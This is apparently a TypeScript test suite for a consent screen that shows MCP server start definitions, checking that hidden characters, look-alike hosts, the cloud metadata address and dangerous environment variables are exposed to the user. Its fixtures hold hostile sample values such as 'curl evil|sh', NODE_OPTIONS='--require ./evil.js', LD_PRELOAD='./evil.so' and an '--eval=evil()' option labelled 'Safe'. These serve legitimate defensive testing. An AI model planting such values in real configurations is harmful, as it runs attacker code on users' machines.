import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { decidesWhatRuns, isHarmless } from '../../../src/config/decidingVariables.ts';
import type { ServerDefinition } from '../../../src/config/definition.ts';
import { effectiveParts, PARTS } from '../../../src/config/fingerprint.ts';
import { readInputs } from '../../../src/config/inputs.ts';
import { effectiveDefinition } from '../../../src/config/launch.ts';
import { readServers } from '../../../src/config/readDefinition.ts';
import { decidingInputs, dependsOnWorkspace, type Program, type Start } from '../../../src/config/start.ts';
import { exact, startSections } from '../../../src/config/startText.ts';
import { inputsOf, type VariableSource } from '../../../src/config/variables.ts';
import { namesSecret } from '../../../src/elicitation/secretNames.ts';
import { english, render } from '../../../src/elicitation/sentence.ts';
import { parseUrl } from '../../../src/elicitation/url/parseUrl.ts';
import type { UrlLevel } from '../../../src/elicitation/url/urlSafety.ts';
import { runs } from '../../nightly.ts';
import { tableRows } from '../../tableRows.ts';

const rows = tableRows(import.meta.url);

const source: VariableSource = {
	workspaceFolder: () => '/work',
	userHome: () => '/home/ada',
	pathSeparator: () => '/',
	environment: (name) => (name === 'UNSET' ? undefined : `value of ${name}`),
	configuration: (key) => `setting ${key}`,
	isOfWorkspace: (key) => key.startsWith('theirs'),
	input: () => undefined,
	shell: false,
};

function define(value: unknown): ServerDefinition {
	const { servers, problems } = readServers({ it: value });
	const [definition] = servers;
	if (!definition) throw new Error(`The test needs a good definition: ${JSON.stringify(problems)}`);
	return definition;
}

const found: Program = { file: '/usr/bin/node', inWorkspace: false, cwd: '/work', windows: false };

function startOf(value: unknown, program?: Program, proposed: unknown = []): Start {
	const written = define(value);
	const { definition: shown } = effectiveDefinition(written, source);
	const used = inputsOf(written);
	const inputs = readInputs(proposed).inputs.filter(({ id }) => used.includes(id));
	return { written, shown, inputs, ...(shown.type === 'stdio' && { program: program ?? found }) };
}

/** All lines of the consent. */
function linesOf(start: Start, isOwn = false): string[] {
	return startSections(start, isOwn).flatMap(({ title, rows }) => [
		...(title ? [render(title, english)] : []),
		...rows.map(({ label, text, notes }) =>
			[label ? `${render(label, english)}: ${text}` : text, ...notes.map((note) => render(note, english))].join('  ← '),
		),
	]);
}

describe('a text that is shown exactly', () => {
	it.each([
		['a\nb', 'a‹U+000A›b'],
		['a\r\nb\tc', 'a‹U+000D›‹U+000A›b‹U+0009›c'],
		['safe\u202eelif', 'safe‹U+202E›elif'],
		['a b', 'a b'],
		[' a  b ', '‹U+0020›a‹U+0020›‹U+0020›b‹U+0020›'],
		[`a${'\n'.repeat(100)}b`, 'a‹U+000A ×100›b'],
		['a\u00a0\u3000\u2800\u3164b', 'a‹U+00A0›‹U+3000›‹U+2800›‹U+3164›b'],
		[`a${'\u0301'.repeat(100)}`, `a${'\u0301'.repeat(6)}‹U+0301 ×94›`],
		['‹U+000A›', '‹U+2039›U+000A›'],
	])('has no invisible characters: %j', (text, shown) => {
		expect(exact(text)).toBe(shown);
	});

	it('differs from every other text', () => {
		const hostile = fc.string({
			unit: fc.constantFrom(' ', '\n', '‹', 'U', '+', '0', '2', 'A', '›', '×', '4', '\u200b', 'a'),
			maxLength: 12,
		});
		fc.assert(
			fc.property(hostile, hostile, (one, other) => {
				expect(exact(one) === exact(other)).toBe(one === other);
			}),
			{ numRuns: runs(5_000) },
		);
	});
});

describe('a variable', () => {
	it.each<string>(rows('deciding'))('named %s decides what runs', (name) => {
		expect(decidesWhatRuns(name, false)).toBe(true);
		expect(decidesWhatRuns(name.toLowerCase(), true)).toBe(true);
	});

	it.each<string>(rows('harmless'))('named %s is known to decide nothing', (name) => {
		expect(decidesWhatRuns(name, true)).toBe(false);
		expect(isHarmless(name, false)).toBe(true);
	});

	it.each<string>(rows('unknown'))('named %s is not known to decide nothing', (name) => {
		expect(decidesWhatRuns(name, false)).toBe(false);
		expect(isHarmless(name, false)).toBe(false);
	});
});

describe('the consent to a start', () => {
	it('sets apart what decides what runs, wherever it comes from, and masks none of it for its name', () => {
		const variables = { LD_PRELOAD: './evil.so', REGION: 'eu', NODE_OPTIONS: 'shadowed' };
		const title = 'These variables may change what is run, whatever the command is';
		const envFile = { file: '/project/.env', inWorkspace: true, text: 'x', variables };
		const env = { NODE_OPTIONS: '--require ./evil.js', GIT_CONFIG_KEY_0: 'core.sshCommand', A: '1', CI: '1' };
		const sections = startSections(startOf({ command: 'node', env, envFile: '.env' }, { ...found, envFile }), true);
		const alarms = sections.filter(({ level }) => level !== undefined);
		expect(alarms.map((section) => section.title && render(section.title, english))).toEqual([title]);
		expect(alarms.flatMap(({ rows }) => rows.map(({ text }) => text))).toEqual([
			'NODE_OPTIONS=--require ./evil.js',
			'GIT_CONFIG_KEY_0=core.sshCommand',
			// Nobody knows what it decides.
			'A=1',
			'LD_PRELOAD=./evil.so',
			'NODE_OPTIONS=shadowed',
		]);
	});

	it('shows the roots that the server is told, with the variables in them', () => {
		const roots = ['file:///${env:A_TOKEN}', 'file:///${env:HOME}'];
		expect(linesOf(startOf({ url: 'https://h/mcp', roots }))).toEqual(
			expect.arrayContaining([
				'Roots that it is told',
				'file:///${env:A_TOKEN}',
				'file:///value of HOME  ← from ${env:HOME}',
			]),
		);
	});

	it.each([
		[undefined, '${workspaceFolder}  ← all folders of the workspace'],
		['workspace', '${workspaceFolder}  ← all folders of the workspace'],
		['none', 'none  ← no folders'],
		[[], 'none  ← no folders'],
	])('shows which folders the server is told of, also where it is told of the usual ones: %j', (roots, line) => {
		const lines = linesOf(startOf({ url: 'https://h/mcp', ...(roots && { roots }) }));
		expect(lines.slice(lines.indexOf('Roots that it is told') + 1)).toEqual([line]);
	});

	it('shows what is proposed for the values that are asked for', () => {
		const inputs = [
			{ id: 'script', type: 'promptString', default: "require('./evil')" },
			{ id: 'level', type: 'pickString', options: ['low', { label: 'Safe', value: '--eval=evil()' }], default: 'low' },
			{ id: 'key', type: 'promptString', password: true },
			{ id: 'unused', type: 'promptString', default: 'x' },
		];
		const args = ['-e', '${input:script}', '${input:level}', '${input:key}'];
		const lines = linesOf(startOf({ command: 'node', args }, found, inputs));
		expect(lines.slice(lines.indexOf('Values that are proposed to you') + 1)).toEqual([
			"require('./evil')  ← proposed for ${input:script}",
			'low  ← proposed for ${input:level}',
			'low  ← a choice for ${input:level}',
			'--eval=evil()  ← a choice for ${input:level}, shown as "Safe"',
		]);
	});

	it('knows the variables of Windows in any case', () => {
		const envFile = { file: 'C:\\.env', inWorkspace: false, text: 'x', variables: { node_options: '1', region: 'x' } };
		const lines = linesOf(
			startOf({ command: 'x', env: { Path: 'C:\\evil', Region: 'eu' } }, { ...found, envFile, windows: true }),
		);
		expect(lines).toContain('These variables may change what is run, whatever the command is');
		expect(lines.indexOf('Path=C:\\evil')).toBeLessThan(lines.indexOf('Environment variables'));
		expect(lines).toContain('node_options=1  ← from the environment file');
		expect(lines).toContain('region=x  ← replaced by the definition');
	});

	it.each([
		['of the user is masked, where it is named like a secret', true, 'Cookie=••••••', 'SESSION_KEY=••••••'],
		['of a workspace is shown', false, 'Cookie=planted', 'SESSION_KEY=curl evil|sh'],
	])('names what is sent by its source: what stands in a file %s', (_what, isOwn, cookie, key) => {
		const headers = {
			Authorization: 'Bearer ${input:token}',
			'X-Api-Key': '${env:GH}',
			'X-Auth': '${config:mine}',
			Token: '${config:theirs.token}',
			'X-User': '${env:USER}',
			Cookie: 'planted',
		};
		const url = 'https://h.example/${env:MY_TOKEN}/${config:my.token}/${config:theirs.token}';
		const lines = linesOf(startOf({ url, headers }), isOwn);
		expect(lines.slice(0, lines.indexOf('Roots that it is told'))).toEqual([
			'Host: h.example',
			'URL: https://h.example/${env:MY_TOKEN}/${config:my.token}/setting theirs.token  ← from ${config:theirs.token}',
			'Transport: HTTP',
			'Headers',
			'Authorization=Bearer ${input:token}',
			// Secrets of the user, by what they are for.
			'X-Api-Key=${env:GH}',
			'X-Auth=${config:mine}',
			'Token=setting theirs.token  ← from ${config:theirs.token}',
			'X-User=value of USER  ← from ${env:USER}',
			cookie,
		]);
		const args = ['--token', '${env:GH}', '--auth=${config:mine}', '${config:theirs}'];
		const program = linesOf(startOf({ command: 'bash', args, env: { SESSION_KEY: 'curl evil|sh' } }), isOwn);
		expect(program).toContain(key);
		expect(program.filter((line) => line.startsWith('Argument'))).toEqual([
			'Argument 1: --token',
			'Argument 2: ${env:GH}',
			'Argument 3: --auth=${config:mine}',
			'Argument 4: setting theirs  ← from ${config:theirs}',
		]);
	});

	it.each([
		[true, 'TOKEN=from the file'],
		[false, 'TOKEN=••••••'],
	])('masks secrets of an environment file, unless it is in the workspace (%s)', (inWorkspace, line) => {
		const envFile = { file: '/.env', inWorkspace, text: 'x', variables: { TOKEN: 'from the file' } };
		expect(linesOf(startOf({ command: 'x', envFile: '.env' }, { ...found, envFile }))).toContain(line);
	});

	it.each<[string, string, UrlLevel, readonly string[]]>([
		['https://mcp.linear.app/mcp', 'mcp.linear.app (linear.app)', undefined, []],
		['https://h.example:8443/mcp', 'h.example:8443', 'warning', ['The port is not the usual one: 8443.']],
		['http://localhost:3000/mcp', 'localhost:3000', undefined, []],
		[
			'https://gіthub.com/${input:my token}',
			'xn--gthub-n2e.com',
			'alarm',
			['The host has letters that can look like others: "xn--gthub-n2e" is written "gіthub", with і (Cyrillic).'],
		],
		[
			'https://2130706433/mcp',
			'127.0.0.1',
			'alarm',
			['The host is a number in disguise: "2130706433" means 127.0.0.1.'],
		],
		[
			'https://169.254.169.254/',
			'169.254.169.254',
			'alarm',
			['This address serves the credentials of cloud machines.'],
		],
	])(
		'shows the host of %s as it is reached, and first what is unusual about it, which is an alarm where it is one before the URL is opened',
		(url, host, level, remarks) => {
			const [first, ...others] = startSections(startOf({ url }), false);
			const lines = linesOf(startOf({ url }));
			expect(lines).toContain(`Host: ${host}`);
			expect(first?.level).toBe(level);
			const told = level && first?.rows.flatMap(({ notes }) => notes.map((note) => render(note, english)));
			expect(told ?? []).toEqual(expect.arrayContaining([...remarks]));
			expect(others.some((other) => other.level !== undefined)).toBe(false);
		},
	);

	it.each([
		[false, []],
		[true, ['in this workspace']],
	])('says of a program and a file only what is worth a warning: in the workspace %s', (inWorkspace, notes) => {
		const envFile = { file: '/folder/.env', inWorkspace, text: '', variables: {} };
		const [program] = startSections(startOf({ command: 'node' }, { ...found, inWorkspace }), false);
		const sections = startSections(startOf({ command: 'node', envFile: '.env' }, { ...found, envFile }), false);
		const told = [program?.rows[0], sections.find(({ rows }) => rows[0]?.text === '/folder/.env')?.rows[0]];
		expect(told.map((row) => row?.notes.map((note) => render(note, english)))).toEqual([
			[...notes, 'written as node'],
			notes,
		]);
	});

	it('shows what is run and sent again while the server is developed', () => {
		const dev = { watch: '**', replay: true, debug: { type: 'debugpy', debugpyPath: './evil.py' } };
		const lines = linesOf(startOf({ command: 'python', args: ['server.py'], dev }));
		expect(lines.slice(lines.indexOf('While you develop it'))).toEqual([
			'While you develop it',
			'dev.debug.type=debugpy  ← attached when you choose Debug Server',
			'dev.debug.debugpyPath=./evil.py  ← run when you choose Debug Server',
			'dev.watch=**  ← restarts it when such a file changes',
			'dev.replay=true  ← repeats the last call then, with your responses',
		]);
	});
});

describe('a definition of the user’s own', () => {
	const closed = { sets: () => false, relative: false, onPath: false };

	it.each([
		['says nothing of a workspace', { command: 'node', args: ['x'] }, {}, false],
		['uses its folder', { command: 'node', args: ['${workspaceFolder}/x'] }, {}, true],
		['uses the name of its folder', { command: 'node', env: { A: '${workspaceFolderBasename}' } }, {}, true],
		['uses its folder in an address', { url: 'https://h/${workspaceFolder:x}' }, {}, true],
		['uses a setting of their own', { command: 'node', args: ['${config:a}'] }, {}, false],
		['uses a setting of the workspace', { command: 'node', args: ['${config:a}'] }, { sets: () => true }, true],
		['has a relative folder', { command: 'node', cwd: 'x' }, { relative: true }, true],
		['finds programs in the workspace', { command: 'node' }, { onPath: true }, true],
	])('that %s: depends on the workspace? %#', (_what, definition, reach, depends) => {
		expect(dependsOnWorkspace(startOf(definition), { ...closed, ...reach })).toBe(depends);
	});

	it('depends on it where its program or its environment file lies in it', () => {
		const program = startOf({ command: 'x' }, { ...found, inWorkspace: true });
		expect(dependsOnWorkspace(program, closed)).toBe(true);
		const envFile = { file: '/project/.env', inWorkspace: true, text: '', variables: {} };
		expect(dependsOnWorkspace(startOf({ command: 'x' }, { ...found, envFile }), closed)).toBe(true);
	});

	it('asks first for the inputs that decide what is run, or which server is reached', () => {
		const definition = define({
			command: '${input:a}',
			args: ['${input:b}'],
			cwd: '${input:c}',
			envFile: '${input:d}',
			env: { PATH: '${input:e}', Path: '${input:f}', X: '${input:g}', LOG_LEVEL: '${input:h}', TOKEN: '${input:i}' },
		});
		expect([...decidingInputs(definition, false)].sort()).toEqual(['a', 'c', 'd', 'e', 'f', 'g']);
		const remote = define({ url: 'https://${input:host}/mcp', headers: { Authorization: '${input:token}' } });
		expect([...decidingInputs(remote, false)]).toEqual(['host']);
	});
});

/** Texts that a malicious workspace might contain. */
const hostile = fc
	.string({
		unit: fc.oneof(
			fc.constantFrom('\n', '\r', '\u2028', '\u202e', '\u200b', ' ', '\t', '‹U+000A›', 'Command: x', '←', '=', '\0'),
			fc.constantFrom('${input:who}', '${env:HOME}', '${env:A_TOKEN}', '${config:a.b}', '${workspaceFolder}'),
			fc.string({ unit: 'grapheme', minLength: 1, maxLength: 3 }),
		),
		maxLength: 8,
	})
	// What the consent must show: everything that is spawned or sent; secrets by name.
	.filter((text) => !/\$\{(?!input:who|env:HOME|env:A_TOKEN|config:a\.b|workspaceFolder\})/.test(text));
const filled = hostile.filter((text) => text.trim() !== '');
const name = fc.oneof(
	fc.constantFrom(
		'NODE_OPTIONS',
		'PATH',
		'A_TOKEN',
		'API_KEY',
		'GIT_CONFIG_KEY_0',
		'REGION',
		'npm_config_x',
		'__proto__',
	),
	fc.string({ unit: 'grapheme', minLength: 1, maxLength: 6 }),
);
const dev = fc.record(
	{
		watch: fc.array(filled, { maxLength: 3 }),
		replay: fc.boolean(),
		debug: fc.record({ type: filled, debugpyPath: filled }, { requiredKeys: ['type'] }),
	},
	{ requiredKeys: [] },
);
const roots = fc.array(
	hostile.map((text) => `file:///${text}`).filter((text) => parseUrl(text) !== undefined),
	{ maxLength: 3 },
);
const stdio = fc.record(
	{
		command: filled,
		args: fc.array(hostile, { maxLength: 5 }),
		cwd: filled,
		env: fc.dictionary(
			name.filter((text) => !text.includes('=')),
			fc.option(hostile),
			{ maxKeys: 5, noNullPrototype: true },
		),
		envFile: filled,
		roots,
		dev,
	},
	{ requiredKeys: ['command'] },
);
const http = fc.record(
	{
		url: hostile.map((text) => `https://h/${text}`).filter((url) => readServers({ it: { url } }).servers.length > 0),
		type: fc.constantFrom('http', 'sse'),
		headers: fc.dictionary(name, hostile, { maxKeys: 5, noNullPrototype: true }),
		oauth: fc.record(
			{
				clientId: filled,
				clientMetadataUrl: fc.constant('https://h/client'),
				scopes: fc.array(
					filled.filter((text) => !/\s/.test(text)),
					{ minLength: 1, maxLength: 3 },
				),
				callbackPort: fc.integer({ min: 1, max: 65_535 }),
			},
			{ requiredKeys: [] },
		),
		roots,
		dev,
	},
	{ requiredKeys: ['url'] },
);
const program = fc.record({
	file: filled,
	cwd: filled,
	inWorkspace: fc.boolean(),
	windows: fc.boolean(),
	variables: fc.option(fc.dictionary(name, hostile, { maxKeys: 5, noNullPrototype: true })),
});

describe('whatever a definition says', () => {
	it('stands in the consent: every text that is run or sent, on a line of its own', () => {
		fc.assert(
			fc.property(fc.oneof(stdio, http), program, fc.boolean(), (value, { variables, ...place }, isOwn) => {
				const envFile = { file: '/e', inWorkspace: false, text: JSON.stringify(variables), variables: variables ?? {} };
				const start = startOf(value, { ...place, ...(variables && { envFile }) });
				const lines = linesOf(start, isOwn);
				const texts = startSections(start, isOwn).flatMap(({ rows }) => rows.map(({ text }) => text));
				expect(lines.join('')).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
				for (const text of influences(start, isOwn)) {
					expect(texts, lines.join('\n')).toContain(text);
				}
			}),
			{ numRuns: runs(1_000, 250) },
		);
	});

	it('is asked again when any of it has changed', () => {
		const partsOf = (value: unknown, place: Program) => effectiveParts(startOf(value, place));
		const both = fc.oneof(fc.tuple(stdio, stdio), fc.tuple(http, http), fc.tuple(stdio, http));
		fc.assert(
			fc.property(both, program, fc.string(), fc.string(), ([one, other], { variables, ...place }, before, after) => {
				const withFile = (text: string) => ({
					...place,
					...(variables && { envFile: { file: '/e', inWorkspace: false, text, variables } }),
				});
				const same = (a: unknown, b: unknown, x = '', y = '') => {
					const [p, q] = [partsOf(a, withFile(x)), partsOf(b, withFile(y))];
					return PARTS.every((part) => p[part] === q[part]);
				};
				expect(same(one, one)).toBe(true);
				const lines = (value: unknown) => linesOf(startOf(value, place)).sort().join('\n');
				expect(!same(one, other) || lines(one) === lines(other)).toBe(true);
				if (variables && 'command' in one) {
					expect(same(one, one, before, after)).toBe(before === after);
				}
			}),
			{ numRuns: runs(1_000, 250) },
		);
	});

	it.each([
		['a default', [{ id: 'x', type: 'promptString', default: 'a' }], [{ id: 'x', type: 'promptString', default: 'b' }]],
		['an option', [{ id: 'x', type: 'pickString', options: ['a'] }], [{ id: 'x', type: 'pickString', options: ['b'] }]],
		[
			'what an option stands for',
			[{ id: 'x', type: 'pickString', options: [{ label: 'a', value: 'a' }] }],
			[{ id: 'x', type: 'pickString', options: [{ label: 'a', value: 'b' }] }],
		],
		['a command of the editor', [{ id: 'x', type: 'promptString' }], [{ id: 'x', type: 'command', command: 'a' }]],
		[
			'what a command of the editor gets',
			[{ id: 'x', type: 'command', command: 'a', args: 1 }],
			[{ id: 'x', type: 'command', command: 'a', args: 2 }],
		],
		['a first default', [{ id: 'x', type: 'promptString' }], [{ id: 'x', type: 'promptString', default: 'b' }]],
	])('is asked again when something else is proposed for a value: %s', (_what, before, after) => {
		const of = (inputs: unknown) => effectiveParts(startOf({ command: 'x', args: ['${input:x}'] }, found, inputs));
		expect(PARTS.filter((part) => of(before)[part] !== of(after)[part])).toEqual(['inputs']);
	});

	it.each([
		['file', { file: '/other' }],
		['cwd', { cwd: '/other' }],
	])('is asked again when its program is found elsewhere: %s', (_what, changed) => {
		const of = (place: Program) => JSON.stringify(effectiveParts(startOf({ command: 'x' }, place)));
		expect(of({ ...found, ...changed })).not.toBe(of(found));
	});
});

/** What has to stand in the consent: all that is spawned with, or sent; a secret by its name. */
function influences({ written, shown, program: place }: Start, isOwn: boolean): string[] {
	const pair = (name: string, value: string | null, masked: boolean) =>
		value === null
			? exact(name)
			: `${exact(name)}=${masked && value !== '' && namesSecret(name) && !decidesWhatRuns(name, true) ? '••••••' : exact(value)}`;
	/** Those of the definition are masked where the user has written them. */
	const pairs = (values: Readonly<Record<string, string | null>>) => {
		const literals = written.type === 'stdio' ? written.env : written.headers;
		return Object.entries(values).map(([name, value]) =>
			pair(name, value, isOwn && !/\$\{[^}]+\}/.test(literals[name] ?? '')),
		);
	};
	const { debug, watch = [], replay } = shown.dev ?? {};
	const development = [
		...(Array.isArray(shown.roots) && shown.roots.length > 0
			? shown.roots.map(exact)
			: [shown.roots === 'workspace' ? '${workspaceFolder}' : 'none']),
		...(debug ? [`dev.debug.type=${exact(debug.type)}`] : []),
		...(debug?.debugpyPath === undefined ? [] : [`dev.debug.debugpyPath=${exact(debug.debugpyPath)}`]),
		...watch.map((glob) => `dev.watch=${exact(glob)}`),
		...(replay ? ['dev.replay=true'] : []),
	];
	if (shown.type === 'stdio') {
		return [
			...development,
			exact(place?.file ?? ''),
			exact(place?.cwd ?? ''),
			...shown.args.map(exact),
			...pairs(shown.env),
			...(place?.envFile ? [place.envFile.file] : []),
			...Object.entries(place?.envFile?.variables ?? {}).map(([name, value]) => pair(name, value, true)),
		];
	}
	const { clientId, clientMetadataUrl, scopes, callbackPort } = shown.oauth ?? {};
	return [
		...development,
		exact(shown.url),
		...pairs(shown.headers),
		...(clientId === undefined ? [] : [`oauth.clientId=${exact(clientId)}`]),
		...(clientMetadataUrl === undefined ? [] : [`oauth.clientMetadataUrl=${exact(clientMetadataUrl)}`]),
		...(scopes ? [`oauth.scopes=${exact(scopes.join(' '))}`] : []),
		...(callbackPort === undefined ? [] : [`oauth.callbackPort=${callbackPort}`]),
	];
}
